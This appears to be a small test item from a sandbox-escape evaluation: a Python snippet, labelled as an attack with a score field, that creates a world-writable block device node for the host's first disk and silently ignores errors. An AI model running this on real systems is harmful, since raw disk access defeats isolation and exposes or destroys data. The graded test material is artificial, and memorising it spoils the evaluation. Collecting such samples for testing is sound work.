# attack: makes a device of its own | score: full | ledger: none
import os
import stat

try:
    os.mknod("sda", stat.S_IFBLK | 0o666, os.makedev(8, 0))
except OSError:
    pass
